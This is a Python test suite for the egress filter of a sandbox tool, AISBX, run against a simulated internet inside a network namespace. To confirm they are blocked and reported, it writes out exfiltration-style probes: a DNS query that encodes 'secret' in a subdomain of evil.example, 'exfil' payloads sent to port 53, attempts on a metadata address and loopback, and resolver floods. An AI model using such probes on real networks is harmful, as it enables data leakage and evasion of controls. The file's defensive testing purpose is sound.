#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Egress in a small internet of the test's own: names, allowed and forbidden hosts, rebinding, TLS names, hostile peers.

Takes the program from AISBX. Speaks TAP. Runs as whoever starts it; the suite's runner does so as root and as a plain
user. Everything happens in a network namespace that this program makes for itself: no packet leaves the machine.
"""
import os
import resource
import shlex
import signal
import socket
import subprocess
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))

from box import patience, slow
from clitest import AISBX, Home, Tap
from internet import (EVIL, GOOD, GOOD6, LAN, LOOPBACK, METADATA, PRELUDE, asked, build_internet, enter, gateways, hits,
                      lines, listen, listeners, run, start, swallowed, web, words_of)

tap = Tap()
A = ["--allow", "good.example:80"]


def test_none(home):
    r = run(home, f"print(get('good.example'), get('{GOOD}'))")
    tap.ok(lines(r) == ["gaierror", "ConnectionRefusedError"] and not hits and not asked, "without a rule: no name, no network",
           r.get("stdout"))
    tap.ok(r.get("network") is None, "nothing to count", r.get("network"))
    r = run(home, f"print(get('good.example'), get('{GOOD}'))", "--net", "allow")
    tap.ok(lines(r) == ["gaierror", "ConnectionRefusedError"] and not hits, "an empty list is nothing", r)


def test_none_names(home):
    """Without a network a name is refused by that name, and nothing is told about nameservers."""
    script = ("print(get('packages.example.org'), *ask(1, b'a.example'), *ask(28, b'b.example', tcp=True), *ask(1, b'localhost'), "
              "*ask(33, b'_ldap._tcp.c.example'), *ask(12, b'4.3.2.1.in-addr.arpa'), *ask(1, b'no name.example'))")
    home.call("create", "quiet")
    for how in ((), ("--net", "none"), ("quiet",)):
        r = run(home, script, *how, command="exec" if "quiet" in how else "run")
        told = {d["what"]: d.get("hint") for d in r.get("denials", [])}
        tap.ok(lines(r) == "gaierror 5 0 5 0 0 1 5 0 5 0 5 0".split(), f"{how}: refused at once", (r.get("stdout"), r.get("said")))
        tap.ok({what: hint for what, hint in told.items() if hint}
               == {f"resolve {name}": f"--allow {name}" for name in ("packages.example.org", "a.example", "b.example")},
               "by its name, with what would permit it", told)
        tap.ok("resolve _ldap._tcp.c.example" in told and not any(":53" in what for what in told),
               "no hint where no rule helps, nothing about nameservers", told)
    tap.ok(not asked and not hits, "no question leaves")
    r = run(home, f"s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(b'x', ('{GOOD}', 9000))\n"
            "try: print(s.recv(9))\nexcept OSError as e: print(type(e).__name__)")
    tap.ok(lines(r) in (["TimeoutError"], ["timeout"], ["ConnectionRefusedError"]), "datagrams lead nowhere", r.get("stdout"))
    r = run(home, "for i in range(70000):\n  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect(('192.0.2.53', 53))\n"
            "  s.send(b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\1a\\0\\0\\1\\0\\1')\n"
            "  try: s.recv(99)\n  except ConnectionRefusedError: break\n  except OSError: pass\nprint(i)") if slow() else None
    tap.ok(r is None or lines(r) in (["65536"], ["65537"]), "so many are refused by name, the rest without", r)
    home.call("rm", "quiet")


# Each is one way to use port 53 that is no lookup of a name, by a program that does not wait for anything.
NO_LOOKUPS = (
    "u.sendto(b'exfil', to)",
    "u.sendto(b'', to)",
    "u.sendto(b'\\x12\\x34\\x81\\x80' + q[4:], to)",  # an answer
    "u.sendto(q[:2] + b'\\x28\\0' + q[4:], to)",  # another operation
    "u.sendto(q[:-1] + b'\\3', to)",  # another class
    "u.sendto(q[:5] + b'\\2' + q[6:], to)",  # two questions
    "t.connect(to); t.close()",
    "t.connect(to); t.send(b'\\0\\x40exfil')",  # half a message
    "t.connect(to); t.send(b'exfil' * 99)",  # one that is too long
    "t.connect(to); t.send(bytes(8))",  # empty ones
    "t.connect(to); t.send(bytes([0, len(q)]) + q); t.recv(99); t.send(b'\\0\\x40exfil')",
    "t.connect(to); sys.stdout.flush(); os.fork() or time.sleep(60)",  # left open
)
SOCKETS = """
import os, time
q = b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\x09localhost\\0\\0\\1\\0\\1'
"""
PAIR = "to = ('192.0.2.{}', 53); u, t = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket(); {}\n"


def test_no_lookups(home):
    """Without a network, what reaches port 53 and is no lookup is a denial as at every other port."""
    home.call("create", "odd")
    each = SOCKETS + "".join(PAIR.format(i, script) for i, script in enumerate(NO_LOOKUPS, 100))
    single = [SOCKETS + PAIR.format(100, NO_LOOKUPS[i]) for i in (0, 6, -1)]
    for script, last in [(each, 100 + len(NO_LOOKUPS))] + [(script, 101) for script in single]:
        for how in ((), ("odd",)):
            r = run(home, script, *how, command="exec" if how else "run")
            told = {d["what"].split()[-1].removeprefix("udp:"): d.get("hint") for d in r.get("denials", [])}
            tap.ok(r.get("exit_code") == 0 and told == {f"192.0.2.{i}:53": None for i in range(100, last)},
                   f"{how}: each is told, without a hint", (told, r))
    r = run(home, "print(*ask(1, b'localhost'))")
    tap.ok(lines(r) == ["0", "1"] and not r.get("denials"), "localhost is answered, and no denial", r)
    r = run(home, SOCKETS + PAIR.format(1, "u.sendto(q.replace(b'localhost', b'elsewhere'), to)"))
    tap.ok(r.get("denials"), "a lookup whose answer is not awaited is told", r)
    for script, code in ((single[0], 1), (single[1], 1), ("pass", 0)):
        home.call("run", "--keep", "gated", "--", "python3", "-c", PRELUDE + script)
        done = home.call("gate", "check", "gated", "no-network-violations")
        tap.ok(done.returncode == code, f"the gate ends with {code}", done)
        home.call("rm", "gated")
    home.call("rm", "odd")


# Each ends when the kernel refuses: then what refused lookups is gone. Its last message may be lost with it.
UDP_FLOOD = ("u.settimeout(1); u.connect(to)\nwhile True:\n  try: u.send({}); u.recv(99)\n"
             "  except ConnectionRefusedError: break\n  except OSError: pass")
FLOODS = {
    "localhost": UDP_FLOOD.format("q"),
    "another operation": UDP_FLOOD.format("q[:2] + b'\\x28\\0' + q[4:]"),
    "empty messages": "t.connect(to)\nwhile True:\n  try: t.send(bytes(2))\n  except OSError: break",
}
LATER = """
while True:
    t = socket.socket()
    try: t.connect(('192.0.2.7', 53))
    except ConnectionRefusedError: print('gone'); break
    t.close()
"""


def test_floods(home):
    """The process that refuses lookups is outside of the sandbox's limits: whatever it is sent, it does so much and ends."""
    for what, script in FLOODS.items():
        home.call("create", "flooded")
        for how in ((), ("flooded",)):
            r = run(home, SOCKETS + PAIR.format(1, script) + LATER, *how, command="exec" if how else "run")
            tap.ok(lines(r) == ["gone"], f"{what} {how}: bounded", r)
            # An exec hears of so many at a time; those beyond are counted.
            tap.ok(any("connect 192.0.2.7:53" in d["what"] for d in r.get("denials", [])) or r.get("denials_beyond"),
                   "what comes later is told", r)
        r = run(home, "get('192.0.2.8', 53)", "flooded", command="exec")
        tap.ok(any("connect 192.0.2.8:53" in d["what"] for d in r.get("denials", [])), "in later commands, too", r)
        home.call("rm", "flooded")


def test_hints(home):
    """What a denial proposes is what aisbx takes."""
    script = ("get('packages.example.org'); get('good.example', 8080); get('2001:db8::10', 8080); get('198.51.100.10', 8443); "
              "get('198.18.0.1'); get('127.0.0.1'); ask(1, b'_x.example'); "
              "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('198.51.100.10', 99))")
    for flags in ((), A):
        r = run(home, script, *flags)
        hints = sorted({d["hint"] for d in r.get("denials", []) if d.get("hint")})
        tap.ok(len(hints) >= 4 and not (flags and any("198.18." in hint for hint in hints)), "hints", r.get("denials"))
        for hint in hints:
            done = home.call("plan", *shlex.split(hint), "--", "true")
            tap.ok(done.returncode == 0, f"{hint} is taken", done.stderr)


def test_at_once(home):
    """The first of each kind is shown while the command runs, and counted when it has ended."""
    script = PRELUDE + "get('packages.example.org'); get('packages.example.org'); print('tried', flush=True); sys.stdin.read()"
    home.call("create", "soon")
    for words in (("run",), ("run", *A), ("exec", "soon"), ("try", "-n")):
        child = subprocess.Popen([AISBX, *words, "--", "python3", "-c", script], cwd=home.work, env=home.env, text=True,
                                 stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        first = child.stderr.readline()
        tap.ok(first == "aisbx: denied by net: packages.example.org; --allow packages.example.org\n", f"{words}: shown at once",
               first)
        tap.ok(child.stdout.readline() == "tried\n" and child.poll() is None, "while it runs")
        rest = child.communicate(timeout=patience(60))[1]
        tap.ok(rest.count("packages.example.org, ") == 1 and " times; --allow packages.example.org" in rest, "counted at the end", rest)
    home.call("rm", "soon")
    done = home.call("run", "--json", "--", "python3", "-c", PRELUDE + "get('packages.example.org')")
    tap.ok(not done.stderr, "with --json all stands in the object", done.stderr)


def test_allowed(home):
    r = run(home, "print(get('good.example'), get('GOOD.Example.'), get('alias.example'))",
            *A, "--allow", "alias.example:80")
    tap.ok(lines(r) == [GOOD] * 3, "an allowed name, in any case, by an alias", r.get("stdout"))
    tap.ok(r.get("network", {}).get("connections") == 3 and r["network"]["received_bytes"] > 100, "counted",
           r.get("network"))
    tap.ok(r.get("denials") == [], "nothing was denied", r.get("denials"))
    r = run(home, "print(get('api.good.example'), get('a.b.good.example'), get('good.example'))",
            "--allow", "*.good.example:80")
    tap.ok(lines(r) == [GOOD, "gaierror", "gaierror"], "a wildcard covers what is below", r.get("stdout"))
    r = run(home, "print(get('listed.example'), get('unlisted.example'), get('printer.example'))",
            "--allow", "listed.example:80", "--allow", "printer.example:80")
    tap.ok(lines(r) == [GOOD, "ConnectionResetError", "ConnectionResetError"], "names of /etc/hosts", r.get("stdout"))
    r = run(home, f"print(get('{GOOD}'), get('{EVIL}'))", "--allow", f"{GOOD}:80")
    tap.ok(lines(r) == [GOOD, "ConnectionResetError"], "an address", r.get("stdout"))
    r = run(home, f"print(get('{LAN}'), get('{METADATA}'))", "--allow", "10.9.0.0/16:80", "--allow", "0.0.0.0/0:80")
    tap.ok(lines(r) == [LAN, "ConnectionResetError"], "a private network by its own name only", r.get("stdout"))


def test_refused(home):
    before = len(hits)
    cases = [("evil.example", A, "gaierror"), (EVIL, A, "ConnectionResetError"), (METADATA, A, "ConnectionResetError"),
             ("api.good.example", A, "gaierror"), ("good.example.evil.example", A, "gaierror"),
             ("notgood.example", A, "gaierror"), ("2130706433", A, "ConnectionResetError"),
             ("127.0.0.1", A, "ConnectionResetError"), ("::ffff:127.0.0.1", A, "ConnectionResetError"),
             ("rebind.example", ["--allow", "rebind.example:80"], "gaierror"),
             ("meta.example", ["--allow", "meta.example:80"], "gaierror"),
             ("lan.example", ["--allow", "lan.example:80"], "gaierror"),
             ("good.example", [*A, "--deny", "good.example:80"], "gaierror"),
             ("good.example", [*A, "--deny", f"{GOOD}:80"], "ConnectionResetError")]
    for host, flags, how in cases:
        r = run(home, f"print(get('{host}'))", *flags)
        tap.ok(lines(r) == [how] and words_of(r), f"refused and told: {host} {' '.join(flags[2:])}",
               (r.get("stdout"), r.get("denials")))
    tap.ok(len(hits) == before, "nobody was reached", hits[before:])
    r = run(home, "print(get('mixed.example'))", "--allow", "mixed.example:80")
    tap.ok(lines(r) == [GOOD] and any("private" in d["rule"] for d in r["denials"]),
           "of a name's addresses only the public ones", r.get("denials"))


def test_told(home):
    r = run(home, f"print(get('{EVIL}'), get('{EVIL}', 81), get('good.example', 8080), get('evil.example'))", *A)
    told = {d["what"]: d for d in r.get("denials", [])}
    port = told.get(f"connect {EVIL}:80", {})
    tap.ok(port.get("address") == EVIL and port.get("port") == 80 and port.get("hint") == f"--allow {EVIL}:80"
           and port.get("time", "").endswith("Z") and port.get("process") == "python3", "all that is known", port)
    tap.ok(f"connect {EVIL}:81" in told, "a port without a listener, too", list(told))
    tap.ok("connect good.example:8080" in told, "by the name it was asked for", list(told))
    tap.ok(told.get("resolve evil.example", {}).get("name") == "evil.example", "a name", list(told))
    done = home.call("run", *A, "--", "python3", "-c", PRELUDE + "get('evil.example')")
    tap.ok("denied by net: evil.example; --allow evil.example\n" in done.stderr, "on standard error", done.stderr)
    r = run(home, "print(get('good.example', 79))", "--allow", "good.example:79")
    tap.ok([d["layer"] for d in r.get("denials", [])] == ["upstream"] and lines(r) == ["ConnectionResetError"],
           "a place that does not answer is no violation", r.get("denials"))


def test_names(home):
    at = len(asked)
    r = run(home, "print(ask(1, b'good.example'), ask(1, b'good.example', tcp=True), ask(16, b'good.example'),"
                  "ask(255, b'good.example'), ask(1, b'c2VjcmV0.evil.example'), ask(16, b'x.evil.example'),"
                  "ask(1, b'good.example', server='127.0.0.53'))", *A)
    tap.ok(r.get("stdout", "").strip() == "(0, 1) (0, 1) (0, 0) (0, 0) (3, 0) (3, 0) (0, 1)",
           "the stub: UDP, TCP, any server; other types are empty, other names are not there", r.get("stdout"))
    tap.ok(set(asked[at:]) == {("good.example", 1)}, "no other question left", asked[at:])
    r = run(home, "print(ask(1, b'a' * 63 + b'.' + b'b' * 63)); s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM);"
                  "[s.sendto(bytes([i]) * 40, ('192.0.2.1', 53)) for i in range(256)];"
                  "print(get('good.example'), get('good.example', 853))", *A)
    tap.ok(lines(r)[-2:] == [GOOD, "ConnectionRefusedError"], "nonsense does not hurt it", r.get("stdout"))


def test_servers(home):
    """Answers that do not fit, that come late, or never."""
    at = len(asked)
    r = run(home, "print(ask(1, b'big.example')[0], get('big.example'), get('drip.example'))",
            "--allow", "big.example:80", "--allow", "drip.example:80")
    tap.ok(lines(r) == ["0", GOOD, GOOD] and ("big.example", 1, "tcp") in asked[at:], "what is cut is asked again by TCP",
           (r.get("stdout"), asked[at:]))
    script = """
import time
found = {}
def look(name):
    try: socket.getaddrinfo(name, 80, socket.AF_INET); found[name] = 'found'
    except OSError: found[name] = 'not'
threads = [threading.Thread(target=look, args=(n,)) for n in ('silent.example', 'stall.example', 'good.example')]
for t in threads: t.start()
threads[2].join(); print(*found.items(), len(found))
for t in threads: t.join()
print(sorted(found.items()))
"""
    # Who asks is more patient than the gateway, so that it is the gateway who ends it.
    r = run(home, script, *A, "--allow", "silent.example:80", "--allow", "stall.example:80", "--env", "RES_OPTIONS=timeout:30 attempts:1")
    tap.ok(r.get("stdout", "").splitlines() == ["('good.example', 'found') 1", "[('good.example', 'found'), "
                                                "('silent.example', 'not'), ('stall.example', 'not')]"],
           "one that stays silent, or stops in the middle, ends in words, and holds up nobody", r.get("stdout"))
    tap.ok(any(d["layer"] == "upstream" and "nameserver" in d["rule"] for d in r.get("denials", [])), "and is told",
           r.get("denials"))


def test_tls(home):
    flags = ["--allow", "good.example:443", "--allow", "api.good.example:443"]
    swallowed.clear()
    r = run(home, "print(hello('good.example', 'evil.example'), hello('good.example', None))", *flags)
    tap.ok(lines(r) == ["ConnectionResetError"] * 2 and not swallowed.get(GOOD),
           "TLS for another name, or none: reset before a byte flows", (r.get("stdout"), swallowed))
    tap.ok(any("TLS" in d["rule"] for d in r.get("denials", [])), "and told", r.get("denials"))
    r = run(home, "print(hello('good.example', 'good.example'), hello('good.example', 'Good.Example', pieces=9))", *flags)
    tap.ok(lines(r) == ["seen", "seen"], "the right name, whole and in pieces", r.get("stdout"))
    r = run(home, "print(hello('good.example', 'api.good.example'))", *flags)
    tap.ok(lines(r) == ["ConnectionResetError"], "an allowed name that was not asked for", r.get("stdout"))
    r = run(home, f"print(hello('{GOOD}', 'evil.example'))", "--allow", f"{GOOD}:443")
    tap.ok(lines(r) == ["seen"], "an address that is named itself takes any", r.get("stdout"))


def test_streams(home):
    flags = ["--allow", "good.example:7000-7003"]
    size = (1 if slow() else 24) << 20
    script = f"""
import os
# Begins neither as TLS nor as a request: those are judged by their names.
data = (b'\\1' + os.urandom((1 << 20) - 1)) * ({size} >> 20)
s = socket.create_connection(('good.example', 7000))
threading.Thread(target=lambda: (s.sendall(data), s.shutdown(socket.SHUT_WR))).start()
back = bytearray()
while True:
    part = s.recv(1 << 16)
    if not part: break
    back += part
print(back[:64].decode() == hashlib.sha256(data).hexdigest(), bytes(back[64:]) == data)
"""
    r = run(home, script, *flags, "--mem", "1g")
    tap.ok(lines(r) == ["True", "True"], "bytes both ways, each direction closed by itself", r.get("stderr"))
    r = run(home, "s = socket.create_connection(('good.example', 7002)); print(s.recv(100).decode().strip());"
                  "s.sendall(b'x'); print(s.recv(100).decode().split()[-1])", *flags)
    tap.ok(lines(r) == ["hello", "x"], "a server that speaks first", r.get("stdout"))
    r = run(home, "print(get('good.example', 7003))", *flags)
    tap.ok(lines(r) == ["ConnectionResetError"], "a reset is passed on", r.get("stdout"))
    script = """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(60)
s.sendto(b'one', (socket.gethostbyname('good.example'), 9000)); print(s.recvfrom(100))
s.sendto(b'two', ('198.51.100.20', 9000)); s.sendto(b'three', ('198.51.100.10', 9001))
"""
    r = run(home, script, "--allow", "udp:good.example:9000")
    tap.ok("echo one" in r.get("stdout", "") and GOOD in r["stdout"], "datagrams where a rule says so", r.get("stdout"))
    tap.ok(sorted(words_of(r)) == ["send udp:198.51.100.20:9000", "send udp:good.example:9001"], "others are told",
           words_of(r))


def test_process(home):
    count = 100 if slow() else 1000
    before = listeners()
    script = f"""
import resource
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
held = [socket.create_connection(('good.example', 7002)) for _ in range({count})]
print(sum(s.recv(6) == b'hello\\n' for s in held)); sys.stdin.read(1)
"""
    # As most sessions have it; the gateway needs more.
    usual = (1024, resource.getrlimit(resource.RLIMIT_NOFILE)[1])
    child = start(home, script, "--allow", "good.example:7002", "--nofile", "4096",
                  preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_NOFILE, usual))
    said = child.stdout.readline().strip().decode()
    tap.ok(said == str(count), f"{count} connections at a time", said)
    mine = {pid: what for pid, what in gateways().items() if int(what[1]["PPid"]) == child.pid}
    tap.ok(len(mine) == 1, "one gateway", list(mine))
    for size, text in mine.values():
        tap.ok(size <= 16384 or slow(), f"in {size} KiB", size)
        tap.ok(int(text["CapEff"], 16) == 0 and int(text["CapPrm"], 16) == 0 and text["NoNewPrivs"] == "1"
               and text["Seccomp"] == "2", "without capabilities, behind a filter", text)
    tap.ok(listeners() == before, "nothing listens on the host for it", listeners())
    child.send_signal(signal.SIGKILL)
    child.wait()
    end = time.monotonic() + patience(10)
    while set(gateways()) & set(mine) and time.monotonic() < end:
        time.sleep(0.02)
    tap.ok(not set(gateways()) & set(mine), "it ends with its supervisor, however that ends")
    child.stdin.close()
    child.stdout.close()


def test_many(home):
    count = 300 if slow() else 3000
    r = run(home, f"print(sum(get('{GOOD}') == '{GOOD}' for _ in range({count})))", "--allow", f"{GOOD}:80")
    tap.ok(lines(r) == [str(count)], f"{count} connections in a row", r.get("stdout"))


def test_words(home):
    """What people write instead of HOST:PORT."""
    every = "print(get('good.example'), get('good.example', 8080), get('api.good.example'), hello('good.example', 'good.example'))"
    for words, answers in ((("--allow", "good.example"), [GOOD, "ConnectionRefusedError", "gaierror", "seen"]),
                           (("--allow", "http://good.example/,api.good.example"), [GOOD, "ConnectionRefusedError", GOOD, "ConnectionResetError"]),
                           (("--allow", "https://good.example/"), ["ConnectionRefusedError"] * 2 + ["gaierror", "seen"]),
                           (("--allow", "good.example,good.example:8080", "--deny", "good.example:80"),
                            ["ConnectionResetError", GOOD, "gaierror", "seen"]),
                           (("--allow", "good.example,good.example:8080,api.good.example:80", "--deny", "good.example"),
                            ["gaierror", "gaierror", GOOD, "gaierror"])):
        r = run(home, every, *words)
        tap.ok(lines(r) == answers, " ".join(words), (r.get("stdout"), r.get("said")))
    for word, why in (("https://good.example/simple", "path"), ("localhost", "localhost:5432"), ("good.example,", "not a rule"),
                      ("udp:good.example", "port")):
        done = home.call("run", "--allow", word, "--", "true")
        tap.ok(done.returncode == 125 and why in done.stderr, f"no rule: {word}", done.stderr)
        profile = home.path + "/words.yaml"
        with open(profile, "w") as out:
            out.write(f'allow: ["{word}"]\n')
        done = home.call("run", "--profile", profile, "--", "true")
        tap.ok(done.returncode == 125 and why in done.stderr, "nor in a profile", done.stderr)
        done = home.call("allow", word)
        tap.ok(done.returncode == 2 and why in done.stderr, "nor for the verb", done.stderr)


def test_host(home):
    r = run(home, "print(get('host.local'))", "--allow", "host.local:80")
    tap.ok(lines(r) == [LOOPBACK], "the host's loopback, where a rule names it", r.get("stdout"))
    r = run(home, "print(get('host.local'), get('198.18.0.1'))", *A)
    tap.ok(lines(r) == ["gaierror", "ConnectionResetError"], "and not otherwise", r.get("stdout"))
    listen(LOOPBACK, 18090, web)
    r = run(home, "print(get('localhost', 18090), get('127.0.0.1', 18090), get('::1', 18090), get('host.local', 18090), "
            "get('127.0.0.2', 18090))", "--allow", "localhost:18090")
    tap.ok(lines(r) == [LOOPBACK] * 4 + ["ConnectionResetError"], "localhost:PORT is the host's, by its addresses, too",
           (r.get("stdout"), r.get("denials")))
    r = run(home, "print(get('localhost', 18090), get('host.local', 18090))", "--allow", "host.local:18090")
    tap.ok(lines(r) == ["ConnectionResetError", LOOPBACK], "host.local:PORT is by that name only", r.get("stdout"))
    tap.ok(["--allow localhost:18090"] == [d["hint"] for d in r.get("denials", [])], "and says how", r.get("denials"))
    r = run(home, "print(get('localhost', 18090), get('host.local', 18090))", "--allow", "localhost:18090", "--deny",
            "host.local")
    tap.ok(lines(r) == ["ConnectionResetError", "gaierror"], "denied by either name", r.get("stdout"))
    r = run(home, "print(get('localhost', 18090), get('localhost', 18091))", "--allow", "localhost:18091,good.example:18090")
    tap.ok(lines(r) == ["ConnectionResetError"] * 2, "at that port only", r.get("stdout"))
    script = "s = socket.create_server(('127.0.0.1', 5000)); print('up');\n" \
             "while True: k = s.accept()[0]; k.sendall(b'inside ' + k.recv(100)); k.close()"
    child = start(home, script, "--publish", "18080:5000")
    child.stdout.readline()
    answers = []
    for _ in range(40):
        with socket.create_connection((LOOPBACK, 18080), 10) as peer:
            peer.sendall(b"x")
            answers.append(peer.recv(100))
    tap.ok(answers == [b"inside x"] * 40, "a published port, again and again", answers[-2:])
    second = home.call("run", "--publish", "18080:5000", "--", "true")
    tap.ok(second.returncode == 125 and "18080" in second.stderr, "a port that is taken is refused in words",
           second.stderr)
    child.kill()
    child.wait()
    child.stdin.close()
    child.stdout.close()


def test_six(home, six):
    if not six:
        tap.skip("IPv6", "there is none here")
        return
    r = run(home, "print(get('six.example'), get('2001:db8::11'), get('2001:db8::10', 81))", "--allow", "six.example:80")
    tap.ok(lines(r) == [GOOD6, "ConnectionResetError", "ConnectionRefusedError"], "IPv6", r.get("stdout"))
    tap.ok({"connect [2001:db8::11]:80", "connect six.example:81"} <= set(words_of(r)), "told alike", words_of(r))


def test_plan(home):
    done = home.call("plan", *A, "--deny", "a.good.example:80", "--publish", "8080:80", "--", "true")
    told = [" ".join(line.split()) for line in done.stdout.splitlines()]
    tap.ok({"allow good.example:80", "deny a.good.example:80", "publish 8080:80"} <= set(told), "the plan lists the rules",
           done.stdout[:500] + done.stderr)
    for bad in ("good.example:", "1.2.3:80", "good.example:53", "a.example:1-300"):
        done = home.call("run", "--allow", bad, "--", "true")
        tap.ok(done.returncode == 125 and "\n" in done.stderr, f"no rule: {bad}", done.stderr)


def test_kept(home):
    home.call("create", "netbox", *A)
    r = run(home, "print(get('good.example'), get('evil.example'))", "netbox", command="exec")
    tap.ok(lines(r) == [GOOD, "gaierror"] and "resolve evil.example" in words_of(r), "a named sandbox", r)
    again = run(home, "print(get('good.example'))", "netbox", command="exec")
    tap.ok(lines(again) == [GOOD], "and its next command", again.get("stdout"))
    home.call("rm", "netbox")


def main():
    enter()
    with Home("net-") as home:
        six = build_internet(home)
        for test in (test_none, test_none_names, test_no_lookups, test_floods, test_hints, test_at_once, test_allowed, test_refused, test_told, test_names, test_servers, test_tls, test_streams,
                     test_process, test_many, test_words, test_host, test_kept, test_plan):
            tap.attempt(test, home)
        tap.attempt(test_six, home, six)
    return tap.done()


if __name__ == "__main__":
    sys.exit(main())
